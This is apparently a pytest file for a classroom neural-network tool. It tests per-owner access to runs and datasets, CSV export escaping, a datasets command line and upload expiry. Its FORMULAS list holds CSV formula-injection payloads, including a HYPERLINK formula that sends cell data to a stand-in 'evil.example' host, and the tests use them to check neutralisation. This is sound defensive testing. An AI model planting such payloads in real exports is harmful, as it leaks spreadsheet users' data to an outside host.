"""Ownership in the engine (issue 16 §3): runs, imported datasets and models are their owners'; a student or a
visitor lists, opens, reloads and deletes only their own, the teacher and the CLI everyone's; a crafted run id or a
forged key gets nothing. Every CSV neutralises formula cells and names datasets, never server paths. The
``datasets`` CLI, and public mode's expiry of uploaded photos."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace

import pytest

from catdnn import PRESETS, photos
from catdnn.classroom import MACHINE, Identity, JoinRefused, new_key, owner_of
from catdnn.cli import main
from catdnn.errors import DataError
from catdnn.history import History, HistoryError
from tests.history_support import class_of_two, tiny_model
from tests.photo_support import photo_tree, write_tree, zip_bytes

SMALL = replace(PRESETS["two-layer"], layers=(12288, 2, 1), iterations=10)


@pytest.fixture
def home(tmp_path, monkeypatch):
    home = tmp_path / "home"
    monkeypatch.setenv("CATDNN_HOME", str(home))
    monkeypatch.delenv("CATDNN_MODE", raising=False)
    monkeypatch.delenv("CATDNN_UPLOAD_TTL", raising=False)
    return home


@pytest.fixture
def people(tmp_path):
    """A class with a teacher and two students, Ana and Bob, from a real class store."""
    store, _code, ana, bob, teacher = class_of_two(tmp_path)
    yield {"ana": ana, "bob": bob, "teacher": teacher, "store": store}
    store.close()


def _no_run(exc) -> str:
    """A refusal's text with the run's number taken out: a crafted id must read as a missing one."""
    return re.sub(r"\d+", "N", str(exc.value))


# --------------------------------------------------------------------------- runs
def test_a_student_lists_opens_reloads_and_deletes_only_their_own_runs(tmp_path, people):
    ana, bob, teacher = people["ana"], people["bob"], people["teacher"]
    path = tmp_path / "runs.sqlite3"
    with History(path, viewer=ana) as h_ana, History(path, viewer=bob) as h_bob, \
            History(path, viewer=teacher) as h_teacher, History(path) as cli, History(path, viewer="tab") as tab:
        mine = h_ana.add(SMALL, status="finished", iterations_done=10, model=tiny_model(SMALL), source="app")
        theirs = h_bob.add(SMALL, status="finished", iterations_done=10, model=tiny_model(SMALL), source="app")
        machine = cli.add(SMALL, status="finished", iterations_done=10, model=tiny_model(SMALL), source="cli")
        assert [r.id for r in h_ana.runs()] == [mine] and len(h_ana) == 1 and h_ana.size()["runs"] == 1
        assert h_ana.runs(ids=[theirs, machine]) == []
        # Bob's run id, crafted into Ana's request, gets exactly what a run that does not exist gets
        with pytest.raises(HistoryError) as missing:
            h_ana.get(machine + 100)
        for call in (h_ana.get, h_ana.model):
            with pytest.raises(HistoryError) as crafted:
                call(theirs)
            assert _no_run(crafted) == _no_run(missing)
        assert h_ana.delete([theirs, machine]) == 0 and len(cli) == 3
        assert h_ana.model(mine).layers == SMALL.layers  # her own model reloads
        # a class's runs are private: a local-mode tab on the same file does not see them either
        assert [r.id for r in tab.runs()] == [machine]
        # the teacher and the CLI see, open and delete everyone's
        assert {r.id for r in h_teacher.runs()} == {r.id for r in cli.runs()} == {mine, theirs, machine}
        assert h_teacher.model(theirs).layers == SMALL.layers
        assert h_teacher.delete([theirs]) == 1 and [r.id for r in h_bob.runs()] == []
        assert cli.delete([mine]) == 1 and h_ana.runs() == []


def test_a_forged_key_gets_nothing(tmp_path, people, home):
    ana, store = people["ana"], people["store"]
    forged = new_key()
    with pytest.raises(JoinRefused):
        store.identify(forged)
    # even an Identity built by hand around the forged key's owner (no store handed it out) owns nothing
    stranger = Identity("student", owner_of(forged), "Ana", ana.class_code, forged)
    nobody = Identity("visitor")  # and one with no owner at all
    path = tmp_path / "runs.sqlite3"
    with History(path, viewer=ana) as h_ana, History(path) as cli:
        run_id = h_ana.add(SMALL, status="finished", iterations_done=10, model=tiny_model(SMALL), source="app")
        cli.add(SMALL, status="finished", iterations_done=10, source="cli")
    photos.import_photos(zip_bytes(photo_tree(3, 3)), name="ana's cats", viewer=ana)
    for who in (stranger, nobody):
        with History(path, viewer=who) as h:
            assert h.runs() == [] and len(h) == 0 and h.csv_text() == ""
            with pytest.raises(HistoryError, match=f"no run {run_id}"):
                h.model(run_id)
            assert h.delete([run_id]) == 0
        assert photos.list_datasets(viewer=who) == []
        with pytest.raises(DataError, match="no imported dataset called \"ana's cats\""):
            photos.delete_dataset("ana's cats", viewer=who)
    assert len(photos.list_datasets()) == 1


# --------------------------------------------------------------------------- CSV
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2", "@SUM(A1:A9)", "\tcmd", "\rcmd")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_cells_that_start_a_formula_are_neutralised(tmp_path, people):
    ana, bob, teacher = people["ana"], people["bob"], people["teacher"]
    path = tmp_path / "runs.sqlite3"
    with History(path, viewer=ana) as h_ana, History(path, viewer=bob) as h_bob:
        for text in FORMULAS:  # crafted fields of a run: a dataset's name (an upload's zip name), a sweep's label
            h_ana.add(SMALL, status="finished", dataset=text, sweep=text, message=text, source="app")
        h_bob.add(SMALL, status="stopped", source="app")
    names = {ana.owner: FORMULAS[0], bob.owner: "-Bob"}  # names passed in, as the teacher's export does
    with History(path, viewer=teacher) as h:
        rows = _cells(h.csv_text(names=names))
    header, body = rows[0], rows[1:]
    assert header[:2] == ["id", "student"] and len(body) == len(FORMULAS) + 1
    col = {name: header.index(name) for name in ("student", "dataset", "sweep", "message")}
    for row in body:
        for name, i in col.items():
            assert not row[i].startswith(("=", "+", "-", "@", "\t", "\r")), (name, row[i])
    by_dataset = {row[col["dataset"]] for row in body}
    assert {"'" + text for text in FORMULAS} <= by_dataset  # kept, shown as text
    assert {row[col["student"]] for row in body} == {"'" + FORMULAS[0], "'-Bob"}
    # numbers stay numbers; a run nobody named has an empty student cell
    with History(path) as cli:
        assert _cells(cli.csv_text(names={}))[1][1] == ""
        assert _cells(cli.csv_text())[0][:2] == ["id", "created"]  # no student column without names


def test_exports_name_datasets_never_server_paths(tmp_path, people, home, data_dir):
    """The teacher's export (with names) and the CLI's: datasets by their display names, never a folder."""
    from catdnn.data import load_dataset

    ana = people["ana"]
    upload = photos.import_photos(zip_bytes(photo_tree(3, 3)), name="ana's cats", viewer=ana)
    shared = photos.import_photos(write_tree(tmp_path / "class photos", photo_tree(3, 3)))
    path = tmp_path / "runs.sqlite3"
    with History(path, viewer=ana) as h:
        h.add(SMALL, status="finished", dataset=load_dataset(upload.folder, download=False), source="app")
        h.add(SMALL, status="finished", dataset=str(shared.folder), source="app")
        h.add(SMALL, status="finished", dataset=str(data_dir), source="app")
    with History(path, viewer=people["teacher"]) as h:
        text = h.csv_text(names={ana.owner: "Ana"})
    for export in (text, History(path).csv_text()):
        assert str(tmp_path) not in export and str(home) not in export and str(data_dir) not in export
        assert "ana's cats" in export and "class photos" in export


# --------------------------------------------------------------------------- datasets
def test_an_upload_is_its_owners_and_the_same_photos_can_have_several(home, people):
    ana, bob, teacher = people["ana"], people["bob"], people["teacher"]
    zipped = zip_bytes(photo_tree(3, 3))
    mine = photos.import_photos(zipped, name="garden", viewer=ana)
    assert mine.uploaded and mine.owners == (ana.owner,)
    assert [d.folder for d in photos.list_datasets(viewer=ana)] == [mine.folder]
    assert photos.list_datasets(viewer=bob) == []
    with pytest.raises(DataError) as missing:
        photos.find_dataset("nothing", viewer=bob)
    for name in ("garden", mine.folder.name):  # by name or by folder: what a missing one gets
        with pytest.raises(DataError) as crafted:
            photos.delete_dataset(name, viewer=bob)
        assert str(crafted.value).replace(repr(name), "X") == str(missing.value).replace("'nothing'", "X")
    assert mine.folder.is_dir()
    # Bob imports the same photos: one dataset on disk, now his too
    his = photos.import_photos(zipped, name="my garden", viewer=bob)
    assert his.cached and his.folder == mine.folder and set(his.owners) == {ana.owner, bob.owner}
    assert photos.find_dataset("garden", viewer=bob).folder == mine.folder
    # Ana deletes it: gone from her list, still Bob's; then Bob's delete removes the photos
    photos.delete_dataset("garden", viewer=ana)
    assert photos.list_datasets(viewer=ana) == [] and mine.folder.is_dir()
    assert [d.owners for d in photos.list_datasets(viewer=bob)] == [(bob.owner,)]
    photos.delete_dataset("garden", viewer=bob)
    assert not mine.folder.exists() and photos.list_datasets(viewer=teacher) == []


def test_the_teacher_and_the_cli_see_and_delete_every_dataset(home, tmp_path, people):
    ana, bob, teacher = people["ana"], people["bob"], people["teacher"]
    upload = photos.import_photos(zip_bytes(photo_tree(3, 3)), name="ana's", viewer=ana)
    shared = photos.import_photos(write_tree(tmp_path / "for the class", photo_tree(3, 3)))  # the CLI's
    assert {d.name for d in photos.list_datasets(viewer=teacher)} == {"ana's", "for the class"}
    assert {d.name for d in photos.list_datasets(viewer=MACHINE)} == {"ana's", "for the class"}
    # a dataset imported on the machine is offered to every student, and only the teacher or the CLI deletes it
    assert [d.name for d in photos.list_datasets(viewer=bob)] == ["for the class"]
    with pytest.raises(DataError, match="imported on this machine for everyone: only the teacher or the command line"):
        photos.delete_dataset("for the class", viewer=bob)
    photos.delete_dataset("ana's", viewer=teacher)
    assert not upload.folder.exists()
    photos.delete_dataset("for the class")
    assert not shared.folder.exists() and photos.list_datasets() == []


def test_datasets_cli_lists_and_deletes(home, tmp_path, capsys, people):
    photos.import_photos(write_tree(tmp_path / "pets", photo_tree(3, 3)))
    upload = photos.import_photos(zip_bytes(photo_tree(4, 3)), name="ana's", viewer=people["ana"])
    assert main(["datasets", "list"]) == 0
    out, err = capsys.readouterr()
    assert "2 imported datasets" in err
    assert "pets" in out and "ana's" in out and upload.folder.name in out and "upload:1" in out
    assert main(["datasets", "delete", upload.folder.name]) == 0
    out, _ = capsys.readouterr()
    assert f"deleted \"ana's\" ({upload.folder.name})" in out and not upload.folder.exists()
    assert main(["datasets", "delete", "nothing"]) == 1
    _, err = capsys.readouterr()
    assert err.strip() == "error: there is no imported dataset called 'nothing' (see `python -m catdnn datasets list`)"
    # two datasets of one name: refused, naming their folders
    photos.import_photos(write_tree(tmp_path / "b" / "pets", photo_tree(4, 4)))
    assert main(["datasets", "delete", "pets"]) == 1
    _, err = capsys.readouterr()
    assert err.startswith("error: 2 imported datasets are called 'pets': name one by its folder") and "\n" == err[-1]
    assert main(["datasets", "list"]) == 0 and "2 imported datasets" in capsys.readouterr().err


def test_datasets_cli_usage_errors(home, capsys):
    with pytest.raises(SystemExit) as exit_:
        main(["datasets", "delete"])
    assert exit_.value.code == 2
    assert main(["datasets", "list"]) == 0 and "0 imported datasets" in capsys.readouterr().err


# --------------------------------------------------------------------------- public mode's expiry
class Clock:
    def __init__(self, t: float = 1_000_000.0):
        self.t = t

    def __call__(self) -> float:
        return self.t


@pytest.fixture
def clock(monkeypatch):
    fake = Clock()
    monkeypatch.setattr(photos, "clock", fake)
    return fake


def test_public_uploads_expire_after_the_ttl(home, tmp_path, people, monkeypatch, clock):
    monkeypatch.setenv("CATDNN_MODE", "public")
    monkeypatch.setenv("CATDNN_UPLOAD_TTL", "600")
    assert photos.upload_ttl() == 600
    visitor = people["store"].visitor()
    shared = photos.import_photos(write_tree(tmp_path / "pets", photo_tree(3, 3)))
    upload = photos.import_photos(zip_bytes(photo_tree(3, 3)), name="mine", viewer=visitor)
    clock.t += 599
    assert {d.name for d in photos.list_datasets(viewer=visitor)} == {"mine", "pets"} and upload.folder.is_dir()
    clock.t += 1
    assert [d.name for d in photos.list_datasets(viewer=visitor)] == ["pets"]  # listing expires it first
    assert not upload.folder.exists()
    clock.t += 10**6
    assert photos.expire_uploads() == [] and shared.folder.is_dir()  # the machine's datasets never expire


def test_one_owners_claim_lapses_and_the_others_stays(home, people, monkeypatch, clock):
    monkeypatch.setenv("CATDNN_MODE", "public")
    zipped = zip_bytes(photo_tree(3, 3))
    a, b = people["store"].visitor(), people["store"].visitor()
    first = photos.import_photos(zipped, viewer=a)
    clock.t += 3000
    photos.import_photos(zipped, viewer=b)  # the same photos: b's claim starts now
    clock.t += 600  # a's hour is over, b's is not
    assert photos.list_datasets(viewer=a) == []
    assert [(d.folder, d.owners) for d in photos.list_datasets(viewer=b)] == [(first.folder, (b.owner,))]
    clock.t += 3000
    assert photos.list_datasets(viewer=b) == [] and not first.folder.exists()


def test_uploads_expire_only_in_public_mode(home, people, clock):
    upload = photos.import_photos(zip_bytes(photo_tree(3, 3)), viewer=people["ana"])
    clock.t += 10 * photos.DEFAULT_UPLOAD_TTL
    assert [d.folder for d in photos.list_datasets(viewer=people["ana"])] == [upload.folder]


@pytest.mark.parametrize("value", ["soon", "0", "-5", "inf", "nan"])
def test_a_bad_ttl_is_one_clear_error(value, monkeypatch):
    monkeypatch.setenv("CATDNN_UPLOAD_TTL", value)
    with pytest.raises(DataError, match="CATDNN_UPLOAD_TTL=.* is not a number of seconds above 0"):
        photos.upload_ttl()
    assert photos.upload_ttl({}) == photos.DEFAULT_UPLOAD_TTL == 3600


def test_runs_export_of_the_cli_neutralises_formula_cells(home, tmp_path):
    with History() as h:  # $CATDNN_HOME's history, the CLI's
        for text in FORMULAS:
            h.add(SMALL, status="finished", dataset=text, source="cli")
    out = tmp_path / "runs.csv"
    assert main(["runs", "export", str(out)]) == 0
    rows = _cells(out.read_bytes().decode("utf-8"))
    column = rows[0].index("dataset")
    assert sorted(row[column] for row in rows[1:]) == sorted("'" + text for text in FORMULAS)
